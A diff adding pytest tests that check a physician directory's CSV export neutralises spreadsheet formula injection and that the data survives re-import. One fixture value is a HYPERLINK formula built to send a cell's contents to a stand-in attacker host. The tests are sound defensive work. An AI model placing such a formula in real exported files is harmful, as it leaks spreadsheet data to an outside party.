@@ -234,6 +234,56 @@ def test_export_then_import_reports_no_changes(db):
     ]
 
 
+def test_export_cells_cannot_start_a_formula_and_import_reads_them_back(db):
+    """OWASP CSV injection: a cell a spreadsheet would run gets a leading quote on export; the
+    import removes exactly that quote, so export -> import is still lossless."""
+    PhysicianFactory(
+        npi=valid_npi(950),
+        first_name="-Dana",
+        practice_name='=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+        street="@SUM(1+1)",
+        city="'=already quoted",  # a value that starts with the quote itself comes back too
+        phone="+13055550100",  # E.164: quoted like any "+" cell, as OWASP advises
+        email="dana@example.com",
+    )
+    PhysicianFactory(npi=valid_npi(951), practice_name="'Ohana Clinic", longitude=-155.5)
+    db.session.commit()
+    text, _ = physician_csv.export_csv()
+    cells = {r["npi"]: r for r in csv.DictReader(io.StringIO(text))}
+    doc = cells[valid_npi(950)]
+    assert doc["first_name"] == "'-Dana"
+    assert doc["practice_name"].startswith("'=HYPERLINK(")
+    assert doc["street"] == "'@SUM(1+1)"
+    assert doc["city"] == "''=already quoted"
+    assert doc["phone"] == "'+13055550100"
+    other = cells[valid_npi(951)]
+    assert other["practice_name"] == "'Ohana Clinic"  # no formula: left as it is
+    assert other["longitude"] == "-155.500000"  # a plain number stays a number
+    for r in cells.values():
+        for name, value in r.items():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
+            assert not value.startswith("-") or name in ("latitude", "longitude"), (name, value)
+
+    report = physician_csv.import_csv(text.encode("utf-8"))
+    assert report.counts[UNCHANGED] == 2, [(x.line, x.errors, x.changes) for x in report.lines]
+    db.session.commit()
+    back = db.session.scalar(sa.select(Physician).where(Physician.npi == valid_npi(950)))
+    assert (back.first_name, back.street, back.city, back.phone) == (
+        "-Dana",
+        "@SUM(1+1)",
+        "'=already quoted",
+        "+13055550100",
+    )
+
+
+def test_a_hand_made_file_with_quoted_phone_numbers_imports(db):
+    """People quote a phone by hand to keep a spreadsheet from eating its '+'."""
+    report = physician_csv.import_csv(to_csv([row(phone="'+13055550100", practice_name="'Ohana Clinic")]))
+    assert report.counts[CREATE] == 1, [x.errors for x in report.lines]
+    doc = db.session.scalar(sa.select(Physician))
+    assert (doc.phone, doc.practice_name) == ("+13055550100", "'Ohana Clinic")
+
+
 def test_registration_numbers_survive_export_and_import(db):
     """';' separates registrations in the CSV, so a number may not contain it; ':' is fine."""
     from crm.services import directory
